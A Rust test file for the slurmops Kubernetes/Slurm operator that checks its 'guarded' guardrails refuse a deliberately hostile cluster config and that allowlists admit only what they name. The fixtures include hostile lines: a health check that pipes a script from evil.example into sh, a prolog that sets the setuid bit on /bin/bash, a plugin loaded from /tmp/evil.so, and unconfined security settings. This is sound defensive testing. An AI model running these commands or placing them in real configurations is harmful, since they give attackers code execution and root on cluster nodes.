//! Issue 54: a push is not node root. Under the install's `guarded` trust level (the default)
//! the guardrails hold on the code a commit makes run — images, scripts, program-valued Slurm
//! keys, mounted claims and ConfigMaps, slurmops's own volumes and labels, a Secret the install
//! did not assign as the cluster's own, Pod Security baseline — each refusal at its `FILE:LINE:COL` with the setting that allows it; under
//! `trusted` the repository is node root. Every example validates under `guarded` with the
//! policy the documentation shows.

use std::process::Command;

use slurmops::cluster::{Diagnostic, Guardrails, guard_code::digest, load, refusals};

const MINIMAL: &str = include_str!("../../examples/minimal/cluster.yaml");

const HEALTH: &str = "#!/bin/sh\ncurl -s http://evil.example/x | sh\n";
const PROLOG: &str = "#!/bin/sh\nchmod u+s /bin/bash\n";
const PLUGSTACK: &str = "required /tmp/evil.so\n";
const CHECK: &str = "scontrol update nodename=ALL state=resume\n";

/// The minimal example asking, one way per class, to choose the code that runs.
fn hostile() -> String {
    let block = |s: &str| {
        s.lines()
            .map(|l| format!("          {l}\n"))
            .collect::<String>()
    };
    MINIMAL
        // The daemon's git token Secret, named as the cluster's slurm.key.
        .replace("slurmKey: {name: slurm-auth", "slurmKey: {name: git")
        // Every object would claim another ApplySet's membership: its apply would prune them.
        .replace(
            "  namespace: slurm\n",
            "  namespace: slurm\n  labels: {applyset.kubernetes.io/part-of: other-set}\n",
        )
        .replace(
            "  nodeSets:\n",
            &format!(
                "  priorityClassName: system-node-critical\n  images:\n    registry: evil.example/slurm\n  controller:\n    persistence: {{existingClaim: other-cluster-state}}\n    slurmConf:\n      MailProg: /tmp/mail\n      plugindir: /tmp/plugins\n    scripts:\n      prolog:\n        - name: p.sh\n          content: |\n{}    configFiles:\n      plugstack.conf:\n        content: |\n{}      oci.conf:\n        configMapRef: {{name: someone-elses, key: oci.conf}}\n      acct_gather.conf: {{content: \"EnergyIPMIFrequency=30\"}}\n    healthCheck:\n      program: |\n{}  accounting:\n    enabled: true\n    slurmdbdConf: {{StorageHost: db.evil.example}}\n    database:\n      host: mariadb.slurm.svc\n      user: slurm\n      password: {{name: slurm-db, key: password}}\n  policy:\n    activeChecks:\n      - {{name: resume, script: {:?}}}\n  nodeSets:\n",
                block(PROLOG).replace("          ", "            "),
                block(PLUGSTACK),
                block(HEALTH).replace("          ", "        "),
                CHECK,
            ),
        )
        .replace(
            "      memory: 1Gi\n",
            "      memory: 1Gi\n      image: evil.example/slurmd:1\n      volumes:\n        - {name: home, persistentVolumeClaim: {claimName: other-home}}\n        - {name: keys, configMap: {name: root-keys}}\n        - {name: src, gitRepo: {repository: \"https://evil.example/x\"}}\n      podTemplate:\n        labels: {app.kubernetes.io/name: slurmops, app.kubernetes.io/part-of: hpc, team: a}\n        annotations: {container.apparmor.security.beta.kubernetes.io/side: unconfined}\n        extraContainers:\n          - name: side\n            image: busybox\n            ports: [{containerPort: 80, hostPort: 80}]\n            securityContext: {seccompProfile: {type: Unconfined}}\n            volumeMounts: [{name: home, mountPath: /h}, {name: slurm-config, mountPath: /s}]\n",
        )
}

fn line_of(text: &str, needle: &str) -> usize {
    text.lines()
        .position(|l| l.contains(needle))
        .unwrap_or_else(|| panic!("{needle:?} not in the text"))
        + 1
}

fn refused(text: &str, g: &Guardrails) -> Vec<Diagnostic> {
    let c = load("cluster.yaml", text).unwrap_or_else(|e| panic!("{e:#?}"));
    refusals("cluster.yaml", text, &c, g)
}

fn guarded() -> Guardrails {
    Guardrails::safe(vec!["slurm".into()])
}

/// Each class of the issue: (path refused, a line the refusal points at, words of the hint).
fn classes(text: &str) -> Vec<(&'static str, usize, &'static str)> {
    let l = |n| line_of(text, n);
    vec![
        // Images: the registry of the default images, a NodeSet's, a sidecar's.
        (
            "spec.images.registry",
            l("registry: evil"),
            "--allow-image evil.example/slurm/slurmctld",
        ),
        (
            "spec.nodeSets[0].image",
            l("image: evil.example/slurmd"),
            "--allow-image evil.example/slurmd",
        ),
        (
            "spec.nodeSets[0].podTemplate.extraContainers[0].image",
            l("image: busybox"),
            "--allow-image docker.io/library/busybox",
        ),
        // Code that runs as root or as the Slurm administrator.
        (
            "spec.controller.healthCheck.program",
            l("program: |") + 1,
            "--allow-program sha256:",
        ),
        (
            "spec.controller.scripts.prolog[0].content",
            l("content: |") + 1,
            "--allow-program sha256:",
        ),
        (
            "spec.controller.configFiles.plugstack.conf.content",
            l("plugstack.conf:") + 2,
            "--allow-program sha256:",
        ),
        (
            "spec.controller.configFiles.oci.conf.configMapRef.name",
            l("someone-elses"),
            "--allow-config-map",
        ),
        (
            "spec.policy.activeChecks[0].script",
            l("name: resume"),
            "--allow-program sha256:",
        ),
        // Slurm keys naming programs, site code, where credentials go (any case).
        (
            "spec.controller.slurmConf.MailProg",
            l("MailProg"),
            "--allow-slurm-key MailProg",
        ),
        (
            "spec.controller.slurmConf.plugindir",
            l("plugindir"),
            "--allow-slurm-key PluginDir",
        ),
        (
            "spec.accounting.slurmdbdConf.StorageHost",
            l("StorageHost"),
            "--allow-slurm-key StorageHost",
        ),
        // A Secret the install did not assign to this cluster, as its own.
        (
            "spec.auth.slurmKey.name",
            l("name: git"),
            "--cluster-secret git",
        ),
        // Claims and ConfigMaps the install does not name; slurmops's own volume in a sidecar.
        (
            "spec.controller.persistence.existingClaim",
            l("existingClaim"),
            "--allow-volume-claim",
        ),
        (
            "spec.nodeSets[0].volumes[0].persistentVolumeClaim.claimName",
            l("claimName: other-home"),
            "--allow-volume-claim",
        ),
        (
            "spec.nodeSets[0].volumes[1].configMap.name",
            l("root-keys"),
            "--allow-config-map",
        ),
        (
            "spec.nodeSets[0].podTemplate.extraContainers[0].volumeMounts[1].name",
            l("name: slurm-config"),
            "declare the volume",
        ),
        // Labels slurmops sets and selects, prunes or adopts on.
        (
            "metadata.labels.applyset.kubernetes.io/part-of",
            l("other-set"),
            "your own prefix",
        ),
        (
            "spec.nodeSets[0].podTemplate.labels.app.kubernetes.io/name",
            l("app.kubernetes.io/name"),
            "your own prefix",
        ),
        // Pod Security baseline outside slurmd's own container.
        (
            "spec.nodeSets[0].volumes[2].gitRepo",
            l("gitRepo"),
            "init container",
        ),
        (
            "spec.nodeSets[0].podTemplate.extraContainers[0].ports[0].hostPort",
            l("hostPort"),
            "--allow-privileged",
        ),
        (
            "spec.nodeSets[0].podTemplate.extraContainers[0].securityContext.seccompProfile.type",
            l("Unconfined"),
            "--allow-privileged",
        ),
        (
            "spec.nodeSets[0].podTemplate.annotations.container.apparmor.security.beta.kubernetes.io/side",
            l("apparmor"),
            "--allow-privileged",
        ),
        (
            "spec.priorityClassName",
            l("system-node-critical"),
            "priority class of your own",
        ),
    ]
}

#[test]
fn under_guarded_each_way_a_push_chooses_the_code_that_runs_is_refused_at_its_position() {
    let text = hostile();
    let got = refused(&text, &guarded());
    for (path, line, hint) in classes(&text) {
        let d = got
            .iter()
            .find(|d| d.path == path)
            .unwrap_or_else(|| panic!("{path} not refused: {got:#?}"));
        assert_eq!(d.line, line, "{d}");
        assert!(
            d.hint.as_deref().unwrap_or_default().contains(hint),
            "{path}: hint {:?} lacks {hint:?}",
            d.hint
        );
    }
    // The digest printed is the one that allows exactly that code.
    let health = got
        .iter()
        .find(|d| d.path == "spec.controller.healthCheck.program")
        .unwrap();
    assert!(health.message.contains(&digest(HEALTH)), "{health}");
    // What stays allowed: a data-only config file, the user's own label, the cluster's Secret.
    for fine in [
        "spec.controller.configFiles.acct_gather.conf.content",
        "spec.nodeSets[0].podTemplate.labels.team",
        "spec.nodeSets[0].podTemplate.labels.app.kubernetes.io/part-of",
        "spec.accounting.database.password.name",
        "spec.nodeSets[0].podTemplate.extraContainers[0].volumeMounts[0].name",
    ] {
        assert!(
            !got.iter().any(|d| d.path == fine),
            "{fine} refused: {got:#?}"
        );
    }

    // Trusted: the repository is node root; nothing of this is checked.
    let trusted = Guardrails {
        pods: false,
        ..guarded()
    };
    assert_eq!(refused(&text, &trusted), Vec::new());
}

#[test]
fn each_allowance_lets_exactly_its_own_through() {
    let text = hostile();
    let all = Guardrails {
        images: vec![
            "evil.example/slurm/".into(),
            "evil.example/slurmd".into(),
            "busybox".into(),
            "ghcr.io/slinkyproject".into(),
            "docker.io/library/mariadb".into(),
        ],
        programs: [HEALTH, PROLOG, PLUGSTACK, CHECK]
            .into_iter()
            .map(digest)
            .collect(),
        slurm_keys: vec!["mailprog".into(), "PluginDir".into(), "StorageHost".into()],
        volume_claims: vec!["other-cluster-state".into(), "other-home".into()],
        config_maps: vec!["someone-elses".into(), "root-keys".into()],
        cluster_secrets: vec!["git".into(), "slurm-jwt".into(), "slurm-db".into()],
        privileged: true,
        database_hosts: vec!["mariadb.slurm.svc".into()],
        ..guarded()
    };
    let left: Vec<String> = refused(&text, &all).into_iter().map(|d| d.path).collect();
    // No allowance mounts slurmops's own volumes into a sidecar, takes its labels, runs git on
    // the node or preempts the cluster's own components.
    assert_eq!(
        left,
        [
            "metadata.labels.applyset.kubernetes.io/part-of",
            "spec.priorityClassName",
            "spec.nodeSets[0].volumes[2].gitRepo",
            "spec.nodeSets[0].podTemplate.labels.app.kubernetes.io/name",
            "spec.nodeSets[0].podTemplate.extraContainers[0].volumeMounts[1].name",
        ],
        "{left:#?}"
    );
    // A changed script is new code: its old digest no longer allows it.
    let changed = text.replace("chmod u+s", "chmod g+s");
    assert!(
        refused(&changed, &all)
            .iter()
            .any(|d| d.path == "spec.controller.scripts.prolog[0].content")
    );
    // Digests required: an allowed image by tag is refused, by digest taken.
    let pinned = Guardrails {
        require_digests: true,
        ..all.clone()
    };
    let d = refused(&text, &pinned);
    assert!(
        d.iter()
            .any(|d| d.path == "spec.nodeSets[0].image"
                && d.message.contains("not pinned by digest")),
        "{d:#?}"
    );
    let sha = "0".repeat(64);
    let by_digest = text.replace(
        "image: evil.example/slurmd:1",
        &format!("image: evil.example/slurmd@sha256:{sha}"),
    );
    assert!(
        !refused(&by_digest, &pinned)
            .iter()
            .any(|d| d.path == "spec.nodeSets[0].image")
    );
}

/// `validate --guardrails` with the policy the documentation shows for each example (and none
/// for the quickstart and the minimal cluster): valid. Without it, the examples that need one
/// are refused, so each policy is needed.
#[test]
fn every_example_validates_under_guarded_with_the_policy_the_docs_show() {
    let root = env!("CARGO_MANIFEST_DIR");
    let docs = std::fs::read_to_string(format!("{root}/docs/trust-model.md")).unwrap();
    for example in ["repo", "minimal", "quickstart", "ha", "gpu-checks"] {
        let policy = format!("examples/policies/{example}.yaml");
        let has = std::path::Path::new(root).join(&policy).exists();
        let run = |with_policy: bool| {
            let mut c = Command::new(env!("CARGO_BIN_EXE_slurmops"));
            c.current_dir(root)
                .args(["validate", "--guardrails"])
                .arg(format!("examples/{example}"))
                .env_clear();
            if with_policy {
                c.args(["--policy", &policy]);
            }
            let out = c.output().unwrap();
            (
                out.status.code(),
                String::from_utf8_lossy(&out.stderr).into_owned(),
            )
        };
        let (code, err) = run(has);
        assert_eq!(code, Some(0), "{example} under guarded: {err}");
        if has {
            assert!(
                docs.contains(&policy),
                "docs/trust-model.md does not show {policy}"
            );
            let (code, err) = run(false);
            assert_eq!(code, Some(1), "{example} needs no policy: {err}");
        }
    }
}

/// Scheduled copies (issue 77): the CronJob slurmops renders for `backup.schedule` passes the
/// closed policy with the install's defaults (its pod as restricted as the pods it copies
/// beside), and the image its pod runs is held to the install's repositories like any other.
#[test]
fn scheduled_copies_pass_guarded_and_their_image_is_held_to_the_allowed_repositories() {
    let quick = include_str!("../../examples/quickstart/cluster.yaml");
    let text = quick.replace(
        "  accounting:\n",
        "  backup:\n    claim: slurm-copies\n    schedule: {cron: \"0 3 * * *\", keep: 7}\n  accounting:\n",
    );
    assert_ne!(text, quick);
    let c = load("cluster.yaml", &text).unwrap_or_else(|e| panic!("{e:#?}"));
    assert!(
        slurmops::render::render(&c)
            .objects
            .iter()
            .any(|o| o.kind == "CronJob")
    );
    assert_eq!(refused(&text, &guarded()), Vec::new());
    let evil = text.replace(
        "    claim: slurm-copies\n",
        "    claim: slurm-copies\n    image: evil.example/dump:1\n",
    );
    let r = refused(&evil, &guarded());
    assert_eq!(r.len(), 1, "{r:#?}");
    assert_eq!(r[0].path, "spec.backup.image");
    assert_eq!(r[0].line, line_of(&evil, "image: evil.example/dump:1"));
}
